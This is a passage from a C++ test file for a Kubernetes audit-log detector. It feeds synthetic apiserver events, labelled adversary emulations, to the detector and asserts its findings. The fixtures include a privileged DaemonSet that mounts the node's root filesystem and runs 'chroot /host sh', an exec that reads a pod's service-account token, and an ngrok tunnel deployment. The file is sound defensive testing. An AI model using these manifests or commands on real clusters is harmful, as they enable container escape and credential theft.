#include "controller/detections.h"

#include <array>
#include <catch2/catch.hpp>
#include <filesystem>
#include <functional>
#include <map>
#include <random>

#include "policies/loader.h"
#include "test/test_util.h"

namespace kc::audit {
namespace {

using nlohmann::json;

constexpr int64_t kDay = 24LL * 3600 * 1'000'000;

const std::string kKubectl = "kubectl/v1.30.1 (linux/amd64) kubernetes/7c48c2b";
const std::string kKcmPrefix = "kube-controller-manager/v1.30.1 (linux/amd64) kubernetes/7c48c2b/";

// The shipped default policies, as the webhook loads them.
std::shared_ptr<const policy::PolicySet> defaultPolicies() {
  static const std::shared_ptr<const policy::PolicySet> set = [] {
    std::vector<policy::PolicyFile> files;
    for (const char* name : {"images.yaml", "pod-security.yaml", "workloads.yaml"}) {
      const std::string path = std::string(KC_SOURCE_DIR) + "/policies/defaults/" + name;
      files.push_back({path, kc::testing::readFile(path)});
    }
    auto r = policy::loadPolicies(files);
    REQUIRE(r.ok());
    return r.policies;
  }();
  return set;
}

// Builds an audit.k8s.io/v1 Event as the apiserver writes it (log backend line or webhook
// EventList item).
struct Ev {
  std::string auditID;
  std::string stage = "ResponseComplete";
  std::string verb = "create";
  std::string uri;
  std::string user;
  std::vector<std::string> groups = {"system:authenticated"};
  std::string userAgent = kKubectl;
  std::string resource, subresource, ns, name, apiGroup, apiVersion = "v1";
  int code = 201;
  json requestObject;
  json responseObject;
  std::string time = "2026-01-10T09:00:00.000000Z";
  json annotations = {{"authorization.k8s.io/decision", "allow"},
                      {"authorization.k8s.io/reason", ""}};
  json impersonated;
  std::string level = "RequestResponse";

  std::string str() const {
    json objectRef = {{"resource", resource}, {"apiVersion", apiVersion}};
    if (!ns.empty()) objectRef["namespace"] = ns;
    if (!name.empty()) objectRef["name"] = name;
    if (!apiGroup.empty()) objectRef["apiGroup"] = apiGroup;
    if (!subresource.empty()) objectRef["subresource"] = subresource;
    json e = {{"kind", "Event"},
              {"apiVersion", "audit.k8s.io/v1"},
              {"level", level},
              {"auditID", auditID},
              {"stage", stage},
              {"requestURI", uri},
              {"verb", verb},
              {"user", {{"username", user}, {"groups", groups}}},
              {"sourceIPs", {"10.0.12.7"}},
              {"userAgent", userAgent},
              {"objectRef", objectRef},
              {"responseStatus", {{"metadata", json::object()}, {"code", code}}},
              {"requestReceivedTimestamp", time},
              {"stageTimestamp", time},
              {"annotations", annotations}};
    if (!requestObject.is_null()) e["requestObject"] = requestObject;
    if (!responseObject.is_null()) e["responseObject"] = responseObject;
    if (!impersonated.is_null()) e["impersonatedUser"] = impersonated;
    return e.dump();
  }
};

std::string at(int day, int hour = 9) {
  char buf[40];
  std::snprintf(buf, sizeof buf, "2026-01-%02dT%02d:00:00.000000Z", day, hour);
  return buf;
}

std::vector<Finding> feed(Detector& d, const std::string& doc) {
  EventParser parser;
  std::vector<Finding> out;
  ParseStats stats = parser.parse(doc, [&](const Event& e) { d.onEvent(e, out); });
  REQUIRE(stats.rejectedTotal() == 0);
  REQUIRE(stats.events >= 1);
  return out;
}

const Finding* rule(const std::vector<Finding>& fs, std::string_view id) {
  for (const auto& f : fs) {
    if (f.rule == id) return &f;
  }
  return nullptr;
}

std::vector<std::string> rules(const std::vector<Finding>& fs) {
  std::vector<std::string> r;
  for (const auto& f : fs) r.push_back(f.rule);
  return r;
}

json podTemplateSpec(const std::string& image, json extraSpec = json::object(),
                     json container = json::object()) {
  json c = {{"name", "app"},
            {"image", image},
            {"ports", {{{"containerPort", 8080}, {"protocol", "TCP"}}}},
            {"resources", json::object()},
            {"terminationMessagePath", "/dev/termination-log"},
            {"imagePullPolicy", "IfNotPresent"}};
  c.update(container);
  json spec = {{"containers", {c}},
               {"restartPolicy", "Always"},
               {"dnsPolicy", "ClusterFirst"},
               {"serviceAccountName", "default"},
               {"securityContext", json::object()},
               {"schedulerName", "default-scheduler"}};
  spec.update(extraSpec);
  return spec;
}

json deployment(const std::string& ns, const std::string& name, const std::string& uid,
                const std::string& image) {
  return {{"kind", "Deployment"},
          {"apiVersion", "apps/v1"},
          {"metadata",
           {{"name", name},
            {"namespace", ns},
            {"uid", uid},
            {"resourceVersion", "48211"},
            {"generation", 1},
            {"creationTimestamp", "2026-01-10T09:00:00Z"},
            {"labels", {{"app", name}}}}},
          {"spec",
           {{"replicas", 1},
            {"selector", {{"matchLabels", {{"app", name}}}}},
            {"template",
             {{"metadata", {{"labels", {{"app", name}}}}}, {"spec", podTemplateSpec(image)}}},
            {"strategy", {{"type", "RollingUpdate"}}}}},
          {"status", json::object()}};
}

json replicaSet(const std::string& ns, const std::string& name, const std::string& uid,
                const std::string& ownerName, const std::string& ownerUid,
                const std::string& image) {
  return {
      {"kind", "ReplicaSet"},
      {"apiVersion", "apps/v1"},
      {"metadata",
       {{"name", name},
        {"namespace", ns},
        {"uid", uid},
        {"labels", {{"app", ownerName}, {"pod-template-hash", "6d4cf56db6"}}},
        {"annotations", {{"deployment.kubernetes.io/revision", "1"}}},
        {"ownerReferences",
         {{{"apiVersion", "apps/v1"},
           {"kind", "Deployment"},
           {"name", ownerName},
           {"uid", ownerUid},
           {"controller", true},
           {"blockOwnerDeletion", true}}}}}},
      {"spec",
       {{"replicas", 1},
        {"selector", {{"matchLabels", {{"app", ownerName}}}}},
        {"template",
         {{"metadata", {{"labels", {{"app", ownerName}}}}}, {"spec", podTemplateSpec(image)}}}}}};
}

json pod(const std::string& ns, const std::string& name, const std::string& uid,
         const std::string& image, json owner = nullptr, json extraSpec = json::object(),
         json container = json::object()) {
  json md = {{"name", name}, {"namespace", ns}, {"uid", uid}, {"labels", {{"app", "x"}}}};
  if (!owner.is_null()) md["ownerReferences"] = {owner};
  return {{"kind", "Pod"},
          {"apiVersion", "v1"},
          {"metadata", md},
          {"spec", podTemplateSpec(image, extraSpec, container)},
          {"status", {{"phase", "Pending"}, {"qosClass", "BestEffort"}}}};
}

json ownerRef(const std::string& kind, const std::string& name, const std::string& uid) {
  return {{"apiVersion", kind == "ReplicaSet" ? "apps/v1" : "batch/v1"},
          {"kind", kind},
          {"name", name},
          {"uid", uid},
          {"controller", true},
          {"blockOwnerDeletion", true}};
}

// A Deployment created by `user`, then its ReplicaSet and Pod created by the controllers.
std::vector<Finding> rollOut(Detector& d, const std::string& user, const std::string& ns,
                             const std::string& name, const std::string& image, int day,
                             const std::string& tag) {
  std::vector<Finding> all;
  auto add = [&](std::vector<Finding> fs) { all.insert(all.end(), fs.begin(), fs.end()); };
  json dep = deployment(ns, name, "dep-" + tag, image);
  Ev e;
  e.auditID = "a-dep-" + tag;
  e.uri = "/apis/apps/v1/namespaces/" + ns + "/deployments?fieldManager=kubectl-create";
  e.user = user;
  e.resource = "deployments";
  e.apiGroup = "apps";
  e.ns = ns;
  e.name = name;
  e.requestObject = dep;
  e.responseObject = dep;
  e.time = at(day);
  add(feed(d, e.str()));

  const std::string rsName = name + "-6d4cf56db6";
  json rs = replicaSet(ns, rsName, "rs-" + tag, name, "dep-" + tag, image);
  Ev r;
  r.auditID = "a-rs-" + tag;
  r.uri = "/apis/apps/v1/namespaces/" + ns + "/replicasets";
  r.user = "system:serviceaccount:kube-system:deployment-controller";
  r.groups = {"system:serviceaccounts", "system:serviceaccounts:kube-system",
              "system:authenticated"};
  r.userAgent = kKcmPrefix + "system:serviceaccount:kube-system:deployment-controller";
  r.resource = "replicasets";
  r.apiGroup = "apps";
  r.ns = ns;
  r.name = rsName;
  r.requestObject = rs;
  r.responseObject = rs;
  r.time = at(day);
  add(feed(d, r.str()));

  json p =
      pod(ns, rsName + "-x7k2p", "pod-" + tag, image, ownerRef("ReplicaSet", rsName, "rs-" + tag));
  Ev pe;
  pe.auditID = "a-pod-" + tag;
  pe.uri = "/api/v1/namespaces/" + ns + "/pods";
  pe.user = "system:serviceaccount:kube-system:replicaset-controller";
  pe.groups = r.groups;
  pe.userAgent = kKcmPrefix + "system:serviceaccount:kube-system:replicaset-controller";
  pe.resource = "pods";
  pe.ns = ns;
  pe.requestObject = p;
  pe.responseObject = p;
  pe.time = at(day);
  add(feed(d, pe.str()));
  return all;
}

TEST_CASE("CatalogIsBoundedKebabCaseWithTechniques", "[detections]") {
  for (const auto& r : detectionRules()) {
    INFO(r.id);
    CHECK(r.id.find_first_not_of("abcdefghijklmnopqrstuvwxyz-") == std::string_view::npos);
    CHECK(r.technique.rfind("T1", 0) == 0);
    CHECK_FALSE(r.techniqueName.empty());
  }
  CHECK(findRule("pod-exec") != nullptr);
  CHECK(findRule("nope") == nullptr);
}

// Adversary emulation 1: `kubectl create deployment tunnel --image=ngrok/ngrok:latest` in a
// namespace nobody uses, after the baseline has learned the cluster's normal creations.
TEST_CASE("EmulationTunnelingDeploymentInUnusedNamespaceNamesTheHuman", "[detections][emulation]") {
  Baseline baseline(BaselineOptions{7 * kDay, 64, 1000});
  DetectorOptions o;
  o.policies = defaultPolicies;
  o.baseline = &baseline;
  Detector d(o);

  // Learning: the shop team deploys through CI.
  auto learned = rollOut(d, "system:serviceaccount:ci:deployer", "shop", "web",
                         "registry.example.com/shop/web:1.4.2", 1, "web");
  CHECK(rule(learned, "unexpected-creator") == nullptr);
  CHECK(rule(learned, "policy-violation") == nullptr);

  // Day 10, after learning: the tunnel.
  auto fs = rollOut(d, "dev-intern@example.com", "legacy-sandbox", "tunnel", "ngrok/ngrok:latest",
                    10, "tunnel");
  const Finding* creator = rule(fs, "unexpected-creator");
  REQUIRE(creator != nullptr);
  CHECK(creator->user == "dev-intern@example.com");
  CHECK(creator->kind == "Deployment");
  CHECK(creator->namespace_ == "legacy-sandbox");
  CHECK(creator->severity == Severity::kMedium);
  CHECK(creator->technique == "T1078");
  CHECK(creator->details.at("newKey") == "true");

  const Finding* source = rule(fs, "unexpected-image-source");
  REQUIRE(source != nullptr);
  CHECK(source->details.at("value") == "docker.io/ngrok/ngrok");
  CHECK(source->technique == "T1610");
  REQUIRE(rule(fs, "unexpected-user-agent") != nullptr);
  CHECK(rule(fs, "unexpected-user-agent")->details.at("value") == "kubectl");

  // The policy engine re-applied: the denied tunneling image.
  const Finding* policy = rule(fs, "policy-violation");
  REQUIRE(policy != nullptr);
  CHECK(policy->severity == Severity::kHigh);
  CHECK(policy->technique == "T1610");
  CHECK(policy->details.at("rules").find("image.denied") != std::string::npos);
  CHECK(policy->user == "dev-intern@example.com");
  CHECK(policy->images == std::vector<std::string>{"ngrok/ngrok:latest"});

  // The ReplicaSet and Pod made by the controllers are attributed to the human and do not repeat
  // what the Deployment was reported for.
  int novelties = 0, violations = 0;
  for (const auto& f : fs) {
    if (f.rule.rfind("unexpected-", 0) == 0) ++novelties;
    if (f.rule == "policy-violation") ++violations;
    CHECK(f.user == "dev-intern@example.com");
  }
  CHECK(novelties == 3);
  CHECK(violations == 1);
  TrackedObject* p = d.objects().find("pod-tunnel");
  REQUIRE(p != nullptr);
  CHECK(p->actor == "dev-intern@example.com");
  CHECK(p->actorUserAgent == kKubectl);
  CHECK(d.objects().rootUid("pod-tunnel") == "dep-tunnel");

  const json j = toJson(*creator);
  for (const char* k :
       {"rule", "severity", "technique", "auditID", "namespace", "user", "summary"}) {
    CHECK(j.contains(k));
  }
  CHECK(j["severity"] == "medium");
  CHECK(j["auditID"] == "a-dep-tunnel");
}

// A rollout (image change) of a Deployment makes a new ReplicaSet; the controller's creation is
// attributed to the human who changed the Deployment.
TEST_CASE("ControllerCreationsAreAttributedToTheLastHumanChanger", "[detections]") {
  Baseline baseline(BaselineOptions{kDay, 64, 1000});
  DetectorOptions o;
  o.baseline = &baseline;
  Detector d(o);
  rollOut(d, "alice@example.com", "shop", "web", "registry.example.com/shop/web:1", 1, "web");

  Ev patch;
  patch.auditID = "a-patch";
  patch.verb = "patch";
  patch.code = 200;
  patch.uri = "/apis/apps/v1/namespaces/shop/deployments/web?fieldManager=kubectl-set";
  patch.user = "alice@example.com";
  patch.resource = "deployments";
  patch.apiGroup = "apps";
  patch.ns = "shop";
  patch.name = "web";
  patch.requestObject = {
      {"spec",
       {{"template",
         {{"spec", {{"containers", {{{"name", "app"}, {"image", "quay.io/evil/web:2"}}}}}}}}}}};
  patch.responseObject = deployment("shop", "web", "dep-web", "quay.io/evil/web:2");
  patch.time = at(5);
  auto fs = feed(d, patch.str());
  CHECK(rule(fs, "workload-image-changed") == nullptr);  // alice created it

  json rs = replicaSet("shop", "web-7f9b8c", "rs-web-2", "web", "dep-web", "quay.io/evil/web:2");
  Ev r;
  r.auditID = "a-rs2";
  r.uri = "/apis/apps/v1/namespaces/shop/replicasets";
  r.user = "system:serviceaccount:kube-system:deployment-controller";
  r.userAgent = kKcmPrefix + "deployment-controller";
  r.resource = "replicasets";
  r.apiGroup = "apps";
  r.ns = "shop";
  r.responseObject = rs;
  r.time = at(5);
  fs = feed(d, r.str());
  const Finding* src = rule(fs, "unexpected-image-source");
  REQUIRE(src != nullptr);
  CHECK(src->user == "alice@example.com");
  CHECK(src->requestUser == "system:serviceaccount:kube-system:deployment-controller");
  CHECK(src->details.at("value") == "quay.io/evil/web");
  CHECK(rule(fs, "unexpected-user-agent") == nullptr);  // alice's kubectl, learned
  CHECK(toJson(*src)["user"] == "alice@example.com");

  // Its pod: same chain, not reported again.
  json p = pod("shop", "web-7f9b8c-abcde", "pod-web-2", "quay.io/evil/web:2",
               ownerRef("ReplicaSet", "web-7f9b8c", "rs-web-2"));
  Ev pe;
  pe.auditID = "a-pod2";
  pe.uri = "/api/v1/namespaces/shop/pods";
  pe.user = "system:serviceaccount:kube-system:replicaset-controller";
  pe.resource = "pods";
  pe.ns = "shop";
  pe.responseObject = p;
  pe.time = at(5);
  fs = feed(d, pe.str());
  CHECK(rule(fs, "unexpected-image-source") == nullptr);
  CHECK(d.objects().find("pod-web-2")->actor == "alice@example.com");
}

// Adversary emulation 2: a privileged DaemonSet mounting the node's root filesystem.
TEST_CASE("EmulationPrivilegedDaemonSetWithHostRoot", "[detections][emulation]") {
  DetectorOptions o;
  o.policies = defaultPolicies;
  Detector d(o);
  const json ds = json::parse(R"({
    "kind": "DaemonSet", "apiVersion": "apps/v1",
    "metadata": {"name": "node-exporter-extra", "namespace": "monitoring", "uid": "ds-1",
                 "generation": 1, "creationTimestamp": "2026-01-10T09:00:00Z"},
    "spec": {
      "selector": {"matchLabels": {"app": "nx"}},
      "template": {
        "metadata": {"labels": {"app": "nx"}},
        "spec": {
          "hostPID": true,
          "containers": [{
            "name": "app", "image": "docker.io/library/alpine:3.19",
            "command": ["/bin/sh", "-c", "chroot /host sh"],
            "securityContext": {"privileged": true},
            "volumeMounts": [{"name": "host", "mountPath": "/host"}]
          }],
          "volumes": [{"name": "host", "hostPath": {"path": "/", "type": ""}}],
          "restartPolicy": "Always", "dnsPolicy": "ClusterFirst"
        }
      },
      "updateStrategy": {"type": "RollingUpdate"}
    },
    "status": {}
  })");
  Ev e;
  e.auditID = "a-ds";
  e.uri = "/apis/apps/v1/namespaces/monitoring/daemonsets";
  e.user = "mallory@example.com";
  e.resource = "daemonsets";
  e.apiGroup = "apps";
  e.ns = "monitoring";
  e.requestObject = ds;
  e.responseObject = ds;
  // The webhook did not stop it: the apiserver recorded that it failed open.
  e.annotations["failed-open.validating.webhook.admission.k8s.io/round_0_index_0"] =
      "validate.kube-customs.io";
  auto fs = feed(d, e.str());

  const Finding* priv = rule(fs, "privileged-container");
  REQUIRE(priv != nullptr);
  CHECK(priv->severity == Severity::kHigh);
  CHECK(priv->technique == "T1611");
  CHECK(priv->container() == "app");
  const Finding* hp = rule(fs, "sensitive-host-path");
  REQUIRE(hp != nullptr);
  CHECK(hp->severity == Severity::kCritical);
  CHECK(hp->details.at("what") == "/");
  const Finding* created = rule(fs, "daemonset-created");
  REQUIRE(created != nullptr);
  CHECK(created->severity == Severity::kMedium);
  CHECK(created->user == "mallory@example.com");
  REQUIRE(rule(fs, "host-namespace") != nullptr);
  CHECK(rule(fs, "host-namespace")->severity == Severity::kHigh);
  // pod-security-baseline enforces on pods, and only warns on templates (as the webhook does).
  CHECK(rule(fs, "policy-violation") == nullptr);

  // The daemon-set controller's pods: the enforced policy catches them, attributed to mallory;
  // what the template was already reported for is not repeated.
  json p = ds;
  p["kind"] = "Pod";
  p["apiVersion"] = "v1";
  p["metadata"] = {{"name", "node-exporter-extra-4kq9z"},
                   {"namespace", "monitoring"},
                   {"uid", "ds-pod-1"},
                   {"ownerReferences",
                    {{{"apiVersion", "apps/v1"},
                      {"kind", "DaemonSet"},
                      {"name", "node-exporter-extra"},
                      {"uid", "ds-1"},
                      {"controller", true},
                      {"blockOwnerDeletion", true}}}}};
  p["spec"] = ds["spec"]["template"]["spec"];
  p["spec"]["nodeName"] = "worker-3";
  Ev pe = e;
  pe.auditID = "a-ds-pod";
  pe.uri = "/api/v1/namespaces/monitoring/pods";
  pe.user = "system:serviceaccount:kube-system:daemon-set-controller";
  pe.userAgent = kKcmPrefix + "system:serviceaccount:kube-system:daemon-set-controller";
  pe.resource = "pods";
  pe.apiGroup = "";
  pe.requestObject = p;
  pe.responseObject = p;
  auto podFindings = feed(d, pe.str());
  REQUIRE(podFindings.size() == 1);
  const Finding* policy = &podFindings[0];
  CHECK(policy->rule == "policy-violation");
  CHECK(policy->severity == Severity::kHigh);
  CHECK(policy->user == "mallory@example.com");
  CHECK(policy->requestUser == "system:serviceaccount:kube-system:daemon-set-controller");
  CHECK(policy->details.at("rules").find("pss.privileged") != std::string::npos);
  CHECK(policy->details.at("rules").find("pss.hostPathVolumes") != std::string::npos);
  CHECK(policy->details.at("failedOpenWebhooks") == "validate.kube-customs.io");

  // The same object updated later (scaled, relabelled) is not reported again.
  Ev u = e;
  u.auditID = "a-ds-update";
  u.verb = "update";
  u.code = 200;
  u.name = "node-exporter-extra";
  u.time = at(11);
  fs = feed(d, u.str());
  CHECK(rules(fs).empty());
}

// Adversary emulation 3: exec into a pod to read its service-account token.
TEST_CASE("EmulationExecReadingServiceAccountToken", "[detections][emulation]") {
  Detector d(DetectorOptions{});
  const std::string started = R"({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata",
    "auditID":"6a1f0b63-3a1e-4d0c-9b52-0c5f2e0f9b11","stage":"ResponseStarted",
    "requestURI":"/api/v1/namespaces/shop/pods/web-6d4cf56db6-x7k2p/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=app&stderr=true&stdout=true",
    "verb":"create","user":{"username":"mallory@example.com","groups":["developers","system:authenticated"]},
    "sourceIPs":["203.0.113.50"],"userAgent":"kubectl/v1.30.1 (linux/amd64) kubernetes/7c48c2b",
    "objectRef":{"resource":"pods","namespace":"shop","name":"web-6d4cf56db6-x7k2p","apiVersion":"v1","subresource":"exec"},
    "responseStatus":{"metadata":{},"code":101},
    "requestReceivedTimestamp":"2026-01-10T10:00:00.100000Z","stageTimestamp":"2026-01-10T10:00:00.180000Z",
    "annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":"RBAC: allowed by RoleBinding \"dev/shop\" of ClusterRole \"edit\" to Group \"developers\""}})";
  auto fs = feed(d, started);
  REQUIRE(fs.size() == 1);
  const Finding& f = fs[0];
  CHECK(f.rule == "pod-exec");
  CHECK(f.severity == Severity::kHigh);
  CHECK(f.technique == "T1609");
  CHECK(f.user == "mallory@example.com");
  CHECK(f.namespace_ == "shop");
  CHECK(f.name == "web-6d4cf56db6-x7k2p");
  CHECK(f.container() == "app");
  CHECK(f.sourceIP == "203.0.113.50");
  CHECK(f.command.find("/var/run/secrets/kubernetes.io/serviceaccount/token") != std::string::npos);
  REQUIRE_FALSE(f.indicators.empty());
  CHECK(f.indicators[0].rfind("sa_token_read", 0) == 0);
  CHECK(f.summary.find("sa_token_read") != std::string::npos);

  // Its ResponseComplete is the same request: no second finding.
  std::string complete = started;
  complete.replace(complete.find("ResponseStarted"), 15, "ResponseComplete");
  CHECK(feed(d, complete).empty());

  // With ResponseStarted omitted by the audit policy, ResponseComplete decides.
  std::string onlyComplete = complete;
  onlyComplete.replace(onlyComplete.find("6a1f0b63"), 8, "7b2e1c74");
  REQUIRE(feed(d, onlyComplete).size() == 1);

  // A denied exec is not a finding.
  std::string denied = started;
  denied.replace(denied.find("6a1f0b63"), 8, "8c3f2d85");
  denied.replace(denied.find("\"code\":101"), 10, "\"code\":403");
  CHECK(feed(d, denied).empty());
}

TEST_CASE("RequestLevelRulesDecideOncePerRequestWithinTheBound", "[detections]") {
  DetectorOptions o;
  o.maxTrackedRequests = 4;
  Detector d(o);
  std::vector<kc::audit::DedupeKey> hooked;  // what the audit role journals
  d.setDecidedHook([&](const kc::audit::DedupeKey& k) { hooked.push_back(k); });
  auto exec = [](const std::string& id, const std::string& stage) {
    Ev x;
    x.auditID = id;
    x.stage = stage;
    x.code = 101;
    x.level = "Metadata";
    x.uri = "/api/v1/namespaces/shop/pods/p/exec?command=ls&container=app";
    x.user = "mallory@example.com";
    x.resource = "pods";
    x.subresource = "exec";
    x.ns = "shop";
    x.name = "p";
    return x.str();
  };
  REQUIRE(rules(feed(d, exec("exec-1", "ResponseStarted"))) ==
          std::vector<std::string>{"pod-exec"});
  auto watch = [](const std::string& id, const std::string& user) {
    Ev w;
    w.auditID = id;
    w.stage = "ResponseStarted";
    w.verb = "watch";
    w.code = 200;
    w.level = "Metadata";
    w.uri = "/api/v1/namespaces/shop/pods?watch=true";
    w.user = user;
    w.resource = "pods";
    w.ns = "shop";
    return w;
  };
  // Many long-running requests no rule applies to (watches) do not crowd it out.
  for (int i = 0; i < 50; ++i) {
    CHECK(feed(d, watch("watch-" + std::to_string(i), "system:serviceaccount:shop:runner").str())
              .empty());
  }
  // Nor do the watches of people behind an impersonating proxy (Rancher, kube-oidc-proxy),
  // which the impersonation rule looks at and does not report.
  for (int i = 0; i < 50; ++i) {
    Ev w = watch("proxied-" + std::to_string(i), "system:serviceaccount:cattle-system:rancher");
    w.impersonated = {{"username", "bob@example.com"}, {"groups", {"developers"}}};
    CHECK(feed(d, w.str()).empty());
  }
  CHECK(feed(d, exec("exec-1", "ResponseComplete")).empty());
  // Other execs do: the memory keeps the newest maxTrackedRequests requests.
  for (int i = 2; i <= 5; ++i) {
    CHECK(feed(d, exec("exec-" + std::to_string(i), "ResponseStarted")).size() == 1);
  }
  CHECK(feed(d, exec("exec-5", "ResponseComplete")).empty());
  CHECK(feed(d, exec("exec-2", "ResponseComplete")).empty());
  CHECK(feed(d, exec("exec-1", "ResponseComplete")).size() == 1);  // forgotten: decided again
  // A request that only logs ResponseComplete decides there, every time (not remembered).
  CHECK(feed(d, exec("exec-6", "ResponseComplete")).size() == 1);
  CHECK(feed(d, exec("exec-6", "ResponseComplete")).size() == 1);
  // Each session reported on its start was handed to the hook once, as it joined the set:
  // exec-1 to exec-5, of which the set now holds the newest four.
  REQUIRE(hooked.size() == 5);
  CHECK(std::vector<kc::audit::DedupeKey>(hooked.begin() + 1, hooked.end()) ==
        d.reportedRequests());
  // Restored keys are not handed again.
  Detector restored(o);
  restored.setDecidedHook([&](const kc::audit::DedupeKey& k) { hooked.push_back(k); });
  restored.restoreReportedRequests(d.reportedRequests());
  CHECK(feed(restored, exec("exec-5", "ResponseComplete")).empty());
  CHECK(hooked.size() == 5);
}

// `kubectl expose deployment tunnel --type=NodePort`, then the changes that follow.
TEST_CASE("ServiceExposureIsReportedForWhatAChangeAdds", "[detections]") {
  DetectorOptions o;
  o.trustedIdentities["service-exposed"] = {"system:serviceaccount:argocd:*"};
  Detector d(o);
  int n = 0;
  auto service = [](const std::string& name, const std::string& type, json extraSpec = {}) {
    json spec = {{"type", type},
                 {"selector", {{"app", name}}},
                 {"ports", {{{"port", 8080}, {"targetPort", 8080}, {"protocol", "TCP"}}}}};
    if (type == "NodePort" || type == "LoadBalancer") spec["ports"][0]["nodePort"] = 30080;
    for (auto& [k, v] : extraSpec.items()) spec[k] = v;
    return json{{"kind", "Service"},
                {"apiVersion", "v1"},
                {"metadata", {{"name", name}, {"namespace", "sandbox"}, {"uid", "svc-" + name}}},
                {"spec", spec}};
  };
  auto write = [&](const std::string& verb, const std::string& name, json request, json response,
                   const std::string& user = "mallory@example.com", int code = 0) {
    Ev e;
    e.auditID = "svc-" + std::to_string(++n);
    e.verb = verb;
    e.code = code ? code : (verb == "create" ? 201 : 200);
    e.uri = "/api/v1/namespaces/sandbox/services" + (verb == "create" ? "" : "/" + name);
    e.user = user;
    e.resource = "services";
    e.ns = "sandbox";
    e.name = name;
    e.requestObject = std::move(request);
    e.responseObject = std::move(response);
    return feed(d, e.str());
  };

  // A ClusterIP Service exposes nothing outside the cluster.
  CHECK(write("create", "tunnel", service("tunnel", "ClusterIP"), service("tunnel", "ClusterIP"))
            .empty());
  // Turned into a NodePort: reported, with what it exposes.
  auto fs =
      write("patch", "tunnel", {{"spec", {{"type", "NodePort"}}}}, service("tunnel", "NodePort"));
  REQUIRE(rules(fs) == std::vector<std::string>{"service-exposed"});
  CHECK(fs[0].severity == Severity::kMedium);
  CHECK(fs[0].technique == "T1133");
  CHECK(fs[0].kind == "Service");
  CHECK(fs[0].details.at("type") == "NodePort");
  CHECK(fs[0].details.at("ports") == "8080:30080/TCP");
  CHECK(fs[0].details.at("selector") == "app=tunnel");
  CHECK(fs[0].summary ==
        "mallory@example.com exposed service sandbox/tunnel as NodePort (8080:30080/TCP), "
        "selecting app=tunnel");
  // Changes that add no exposure: a label patch, a full update of the same NodePort, a move to
  // LoadBalancer (already outside).
  CHECK(write("patch", "tunnel", {{"metadata", {{"labels", {{"x", "y"}}}}}},
              service("tunnel", "NodePort"))
            .empty());
  CHECK(write("update", "tunnel", service("tunnel", "NodePort"), service("tunnel", "NodePort"))
            .empty());
  CHECK(write("update", "tunnel", service("tunnel", "LoadBalancer"),
              service("tunnel", "LoadBalancer"))
            .empty());
  // externalIPs: traffic inside the cluster to that address now reaches the Service's pods.
  fs = write("patch", "tunnel", {{"spec", {{"externalIPs", {"203.0.113.9"}}}}},
             service("tunnel", "LoadBalancer", {{"externalIPs", {"203.0.113.9"}}}));
  REQUIRE(rules(fs) == std::vector<std::string>{"service-external-ips"});
  CHECK(fs[0].severity == Severity::kHigh);
  CHECK(fs[0].technique == "T1557");
  CHECK(fs[0].details.at("externalIPs") == "203.0.113.9");
  // One more address is reported for that address alone; the same list again is not.
  fs = write("patch", "tunnel", {{"spec", {{"externalIPs", {"203.0.113.9", "198.51.100.7"}}}}},
             service("tunnel", "LoadBalancer", {{"externalIPs", {"203.0.113.9", "198.51.100.7"}}}));
  REQUIRE(rules(fs) == std::vector<std::string>{"service-external-ips"});
  CHECK(fs[0].details.at("externalIPs") == "198.51.100.7");
  CHECK(write("update", "tunnel",
              service("tunnel", "LoadBalancer", {{"externalIPs", {"198.51.100.7", "203.0.113.9"}}}),
              service("tunnel", "LoadBalancer", {{"externalIPs", {"198.51.100.7", "203.0.113.9"}}}))
            .empty());
  // Back to ClusterIP, then NodePort again: exposed anew.
  CHECK(write("update", "tunnel", service("tunnel", "ClusterIP"), service("tunnel", "ClusterIP"))
            .empty());
  CHECK(rules(write("patch", "tunnel", {{"spec", {{"type", "NodePort"}}}},
                    service("tunnel", "NodePort"))) == std::vector<std::string>{"service-exposed"});

  // Services never seen before (created before this process): a patch that does not touch
  // type, ports or externalIPs says nothing; one that does, or a full update, is judged as new.
  CHECK(write("patch", "old-lb", {{"metadata", {{"annotations", {{"a", "b"}}}}}},
              service("old-lb", "LoadBalancer"))
            .empty());
  CHECK(write("patch", "old-np", {{"spec", {{"ports", json::array()}}}},
              service("old-np", "NodePort"))
            .size() == 1);
  CHECK(write("update", "old-np2", service("old-np2", "NodePort"), service("old-np2", "NodePort"))
            .size() == 1);
  // A create always starts from nothing, even under a name seen before.
  CHECK(write("create", "old-lb", service("old-lb", "LoadBalancer"),
              service("old-lb", "LoadBalancer"))
            .size() == 1);
  // Trusted identities, denied requests and Services of no exposure are not reported.
  CHECK(write("create", "web", service("web", "LoadBalancer"), service("web", "LoadBalancer"),
              "system:serviceaccount:argocd:argocd-application-controller")
            .empty());
  CHECK(write("create", "denied", service("denied", "NodePort"), json(), "mallory@example.com", 403)
            .empty());
  CHECK(write("create", "name", service("name", "ExternalName"), service("name", "ExternalName"))
            .empty());
  // Without a selector the endpoints are set by hand: said in the summary.
  json manual = service("manual", "NodePort");
  manual["spec"].erase("selector");
  fs = write("create", "manual", manual, manual);
  REQUIRE(fs.size() == 1);
  CHECK(fs[0].summary.find("no selector") != std::string::npos);
}

// The admission policies' Service rules re-applied to what got in, as the webhook applies them:
// a Service whose type or externalIPs changed, judged whole.
TEST_CASE("ServicePoliciesAreReappliedToWhatGotIn", "[detections][services]") {
  auto withPolicies = [](std::shared_ptr<const policy::PolicySet> set) {
    DetectorOptions o;
    o.policies = [set] { return set; };
    return o;
  };
  Detector d(withPolicies(defaultPolicies()));
  int n = 0;
  auto service = [](const std::string& name, const std::string& ns, json spec) {
    spec["selector"] = {{"app", name}};
    spec["ports"] = {{{"port", 53}, {"protocol", "UDP"}}};
    return json{{"kind", "Service"},
                {"apiVersion", "v1"},
                {"metadata", {{"name", name}, {"namespace", ns}, {"uid", "svc-" + name}}},
                {"spec", spec}};
  };
  auto write = [&](Detector& det, const std::string& verb, const std::string& ns,
                   const json& object, json request = json()) {
    Ev e;
    e.auditID = "svcp-" + std::to_string(++n);
    e.verb = verb;
    e.code = verb == "create" ? 201 : 200;
    const std::string name = object["metadata"]["name"];
    e.uri = "/api/v1/namespaces/" + ns + "/services" + (verb == "create" ? "" : "/" + name);
    e.user = "mallory@example.com";
    e.resource = "services";
    e.ns = ns;
    e.name = name;
    e.requestObject = request.is_null() ? object : request;
    e.responseObject = object;
    return feed(det, e.str());
  };

  // The built-in policy denies externalIPs: this one got past the webhook.
